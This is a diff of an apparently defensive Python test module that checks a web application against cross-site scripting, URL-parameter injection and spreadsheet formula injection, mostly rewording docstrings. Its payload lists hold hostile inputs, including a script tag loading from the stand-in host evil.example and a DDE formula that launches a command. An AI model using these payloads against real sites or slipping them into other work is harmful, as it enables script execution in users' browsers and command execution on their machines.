@@ -1,4 +1,4 @@
-"""Text that would act, in every field of every form and in every other place that takes text: it stays text."""
+"""Hostile text, in every field of every form and everywhere else that takes text: it stays text."""
 
 from __future__ import annotations
 
@@ -19,7 +19,7 @@ from tests.support.surface import FoundForm, FurnishedArea, Survey, Walk, is_htm
 
 FEWEST_FIELDS: Final = 7
 MARK: Final = "zq-hostile-7"
-"""Stands in every payload, so that whatever it became can be found."""
+"""Part of every payload, so that any trace of it can be found."""
 PAYLOADS: Final = (
     "<script>alert('zq-hostile-7')</script>",
     "</script><script src=//evil.example/zq-hostile-7.js></script>",
@@ -44,11 +44,11 @@ PAYLOADS: Final = (
 )
 FORMULAS: Final = ("=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", "%0A=1")
 SHOWING: Final = {"value", "title", "alt", "placeholder", "content", "datetime"}
-"""Attributes that show text and do nothing."""
+"""Attributes that show text and have no other effect."""
 
 
 def require_inert(page: Element, where: object) -> None:
-    """AssertionError where anything in a page acts that we did not write, or acts on what the text says."""
+    """Raise AssertionError if a page has an active part that isn't ours, or that depends on the text."""
     for element in page.walk():
         for name, value in element.attributes.items():
             assert not name.startswith(("on", "style", "hx-on")), (where, name)
@@ -60,30 +60,33 @@ def require_inert(page: Element, where: object) -> None:
 
 
 def require_known(element: Element, where: object) -> None:
-    """AssertionError for an element that a payload would have made."""
-    said = element.attributes
+    """Raise AssertionError for an element that a payload would have created."""
+    attributes = element.attributes
     assert element.tag not in {"style", "hx-partial", "iframe", "object", "base"}, where
-    assert element.tag != "script" or said.get("src", "").startswith("/static/"), where
-    assert element.tag != "img" or said.get("src", "").startswith("/static/"), where
-    assert element.tag != "form" or is_own_address(said.get("action", "")), where
-    assert said.get("hx-trigger", "") != "load", where
-    if element.tag == "a" and "href" in said:
-        assert said["href"].startswith(("/", "#", "https://product.example/")), (where, said)
+    assert element.tag != "script" or attributes.get("src", "").startswith("/static/"), where
+    assert element.tag != "img" or attributes.get("src", "").startswith("/static/"), where
+    assert element.tag != "form" or is_own_address(attributes.get("action", "")), where
+    assert attributes.get("hx-trigger", "") != "load", where
+    if element.tag == "a" and "href" in attributes:
+        assert attributes["href"].startswith(("/", "#", "https://product.example/")), (
+            where,
+            attributes,
+        )
 
 
 def is_own_address(value: str) -> bool:
-    """Whether it is a path of ours, with the text escaped in it."""
+    """Return whether it is one of our paths, with the text escaped in it."""
     return value.startswith("/") and not value.startswith(("//", "/\\")) and "<" not in value
 
 
 def texts_of(seen: Seen) -> Iterator[str]:
-    """What a page shows, and what its fields hold."""
+    """Yield the texts that a page shows, and the values of its fields."""
     yield seen.tree.text
     yield from (e.attributes.get("value", "") for e in seen.tree.all("input"))
 
 
 def hostile_pages(furnished: FurnishedArea) -> Iterator[tuple[str, Seen]]:
-    """Every page that anybody sees now."""
+    """Yield every page that any member sees now."""
     for who in ("owner", "viewer", "stranger"):
         visitor = furnished.visitors[who]
         browser = furnished.browser(who)
@@ -97,7 +100,7 @@ def hostile_pages(furnished: FurnishedArea) -> Iterator[tuple[str, Seen]]:
 
 
 def furnish_with(furnished: FurnishedArea, number: int) -> None:
-    """The text in every place that no form reaches: names, agents, addresses, documents, what happened."""
+    """Put the text everywhere that no form reaches: names, agents, addresses, documents, events."""
     sample, services, payload = (
         furnished.sample,
         furnished.sample.installation.services,
@@ -116,7 +119,7 @@ def furnish_with(furnished: FurnishedArea, number: int) -> None:
 
 @pytest.mark.slow
 def test_text_stays_text(survey: Survey, tmp_path: Path) -> None:
-    """Twenty payloads, in every place: no page holds an element, an attribute or an address that they made."""
+    """With twenty payloads everywhere, no page has an element, an attribute or a URL that they created."""
     assert len(set(PAYLOADS)) == 20
     with survey.copied(tmp_path) as furnished:
         for number, payload in enumerate(PAYLOADS):
@@ -131,8 +134,8 @@ def test_text_stays_text(survey: Survey, tmp_path: Path) -> None:
 
 
 @pytest.mark.slow_on("postgresql")
-def test_text_beside_a_password_stays_text(survey: Survey, tmp_path: Path) -> None:
-    """Forms that ask for a password, each from the same state, since they begin and end sessions."""
+def test_text_next_to_a_password_stays_text(survey: Survey, tmp_path: Path) -> None:
+    """Forms with a password are tested from the same state, since they start and end sessions."""
     asking = [(who, form) for who, form in survey.forms if form.passwords]
     assert len(asking) >= 3
     for number, payload in enumerate(PAYLOADS):
@@ -144,7 +147,7 @@ def test_text_beside_a_password_stays_text(survey: Survey, tmp_path: Path) -> No
 
 
 def send_everywhere(survey: Survey, furnished: FurnishedArea, payload: str) -> Iterator[str]:
-    """The payload in each field of each form that takes text and asks for no password, one at a time."""
+    """Send the payload in each text field of each form without a password, one at a time."""
     for who, wanted in survey.forms:
         for name in [] if wanted.passwords else wanted.texts:
             if send(furnished, who, wanted, name, payload):
@@ -152,13 +155,13 @@ def send_everywhere(survey: Survey, furnished: FurnishedArea, payload: str) -> I
 
 
 def send(furnished: FurnishedArea, who: str, wanted: FoundForm, name: str, payload: str) -> bool:
-    """Whether the form could be sent with the payload in that field; the answer is looked at."""
-    if (found := offered(furnished, who, wanted)) is None:
+    """Send the payload in that field and check the response; return whether the form could be sent."""
+    if (offer := offered(furnished, who, wanted)) is None:
         return False
-    browser, form = found
+    browser, form = offer
     seen = browser.post(form.action, form.filled(**{name: payload}))
     assert seen.status < 500, (form.kind, name)
-    if seen.response.request.method == "POST":  # pages that it leads to are walked through later
+    if seen.response.request.method == "POST":  # the walk visits later the pages that it leads to
         require_inert(seen.tree, (form.kind, name, payload))
     return True
 
@@ -166,7 +169,7 @@ def send(furnished: FurnishedArea, who: str, wanted: FoundForm, name: str, paylo
 def offered(
     furnished: FurnishedArea, who: str, wanted: FoundForm
 ) -> tuple[Browser, FoundForm] | None:
-    """The form as it stands now; None where an earlier text has used it up."""
+    """Return the form as it is now, or None if an earlier text has used it up."""
     try:
         return furnished.form(who, wanted)
     except KeyError:
@@ -175,7 +178,7 @@ def offered(
 
 @pytest.mark.slow_on("postgresql")
 def test_addresses_stay_addresses(survey: Survey, tmp_path: Path) -> None:
-    """A payload in any parameter of any address makes nothing on the page that answers."""
+    """A payload in any parameter of any URL creates nothing on the resulting page."""
     count = 0
     with survey.copied(tmp_path) as furnished:
         for who, visitor in survey.visitors.items():
@@ -190,7 +193,7 @@ def test_addresses_stay_addresses(survey: Survey, tmp_path: Path) -> None:
 
 
 def spoilt(url: str) -> Iterator[str]:
-    """The address with a payload in each of its parameters, and in the last part of its path."""
+    """Yield the URL with a payload in each of its parameters, and in the last part of its path."""
     parts = urlsplit(url)
     for name, _ in parse_qsl(parts.query, keep_blank_values=True):
         for payload in (PAYLOADS[0], PAYLOADS[6], PAYLOADS[11]):
@@ -201,7 +204,7 @@ def spoilt(url: str) -> Iterator[str]:
 @pytest.mark.slow_on("postgresql")
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_spreadsheets_compute_nothing(survey: Survey, tmp_path: Path, formula: str) -> None:
-    """No cell of any file that can be downloaded begins as a formula (CWE-1236), whatever people called things."""
+    """No cell of any file starts a formula (CWE-1236), whatever text users entered."""
     with survey.copied(tmp_path) as furnished:
         furnished.sample.person(Role.VIEWER, formula)
         furnished.sample.key(formula, 30, by=furnished.sample.person(Role.DEVELOPER, formula))
@@ -219,7 +222,7 @@ def test_spreadsheets_compute_nothing(survey: Survey, tmp_path: Path, formula: s
 
 @pytest.mark.slow_on("postgresql")
 def test_a_payload_is_found_where_it_acts() -> None:
-    """The check itself can fail: markup in which a payload came alive is refused."""
+    """The check itself can fail: it refuses markup with an active payload."""
     harmless = "<p>{}</p>"
     for alive in (
         "<p onclick='zq-hostile-7'></p>",
